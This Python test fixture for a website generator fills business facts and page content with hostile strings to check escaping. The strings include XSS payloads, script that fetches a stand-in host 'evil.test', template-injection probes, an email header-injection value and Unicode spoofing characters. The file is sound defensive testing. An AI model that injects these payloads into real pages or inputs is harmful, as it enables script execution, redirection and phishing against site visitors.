"""What people type, and models answer, to get into a page. Whatever runs says so by a dialog, a request or a title."""

from vayro.sites.content import Facts, SiteContent

RUN = "alert(1);document.title='RAN';fetch('http://evil.test/')"
STRINGS = (
    f"<script>{RUN}</script>",
    f"<ScRiPt >{RUN}</sCrIpT\n>",
    f'"><script>{RUN}</script>',
    f"</style><script>{RUN}</script><style>",
    f"</title><script>{RUN}</script>",
    f"<!--><script>{RUN}</script>-->",
    f"<![CDATA[<script>{RUN}</script>]]>",
    f'<img src=x onerror="{RUN}">',
    f"<img src=x onerror={RUN}//",
    f'" onmouseover="{RUN}" autofocus onfocus="{RUN}" x="',
    f"' onclick='{RUN}' style='position:fixed;inset:0' x='",
    f"<svg onload={RUN}>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<math><mtext><table><mglyph><style><!--</style><img src=x onerror={RUN}>",
    f"<details open ontoggle={RUN}>",
    f'<iframe srcdoc="<script>{RUN}</script>"></iframe>',
    '<iframe src="http://evil.test/"></iframe>',
    '<object data="http://evil.test/"></object><embed src="http://evil.test/">',
    '<meta http-equiv="refresh" content="0;url=http://evil.test/">',
    '<base href="http://evil.test/"><link rel=stylesheet href="http://evil.test/x.css">',
    f'<form action="javascript:{RUN}"><button formaction="http://evil.test/">Pay</button></form>',
    f"javascript:{RUN}",
    f"jAvAsCrIpT&colon;{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&amp;lt;script&amp;gt;{RUN}&amp;lt;/script&amp;gt;",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "}body{background:url(http://evil.test/);position:fixed}",
    "*/@import 'http://evil.test/x.css';/*",
    "</style><style>*{background:url('http://evil.test/')}</style>",
    "{{1337*1337}} {% for x in range(9) %}x{% endfor %} {# x #} ${1337*1337} #{1337*1337} <%= 1337*1337 %>",
    "{{ self.__init__.__globals__ }} {{ ''.__class__.__mro__ }}",
    "{name} {category} {0} %s %(name)s {missing}",
    "\u202egnp.exe\u202d \u2066x\u2069 \u200b\u200e\u200f\ufeff",
    "line\u2028separator\u2029paragraph\x85next",
    "bell\x07 escape\x1b[31m tab\t null-like \x01\x1f\x7f",
    "Z\u0351" + "\u0351\u0489" * 60 + "algo",
    "\U000e0041\U000e0042 tags \ufff9 anchors \ufffb",
    "W" * 10_000,
    "<" * 3_000,
    "&" * 3_000,
    "漢" * 500,
    "العربية " * 60,
    "👨‍👩‍👧‍👦" * 60,
)


def make_hostile_facts(number: int = 0) -> Facts:
    """A business that is called, lives and is reached by something hostile, another for each number."""

    def pick(offset: int) -> str:
        return STRINGS[(number * 5 + offset) % len(STRINGS)]

    return Facts(
        name=pick(0),
        category=pick(1),
        phone=f"javascript:{RUN}" if number % 2 else '+1"><script>alert(1)</script>',
        email=f'"><img src=x onerror={RUN}>@evil.test' if number % 2 else f"a@b.c?body=x\r\nbcc:x@evil.test{pick(2)}",
        address="\n".join((pick(3), pick(4))),
        country=pick(2),
        locale='en" onload="alert(1)',
        brief=" ".join(STRINGS),
    )


def make_hostile_content(number: int = 0) -> SiteContent:
    """Content every text of which is hostile, cut to the length that the schema allows."""

    def pick(offset: int, limit: int) -> str:
        return STRINGS[(number * 7 + offset) % len(STRINGS)][:limit].strip()

    return SiteContent.model_validate(
        {
            "headline": pick(0, 120),
            "tagline": pick(1, 300),
            "about": "\n\n".join(text[:120] for text in STRINGS)[:2_000],
            "offers": [{"name": pick(2 + n, 120), "text": pick(10 + n, 300)} for n in range(8)],
            "highlights": [pick(18 + n, 120) for n in range(6)],
            "questions": [{"question": pick(24 + n, 120), "answer": pick(32 + n, 300)} for n in range(8)],
            "call_to_action": pick(40, 40),
            "description": pick(41, 300),
        }
    )
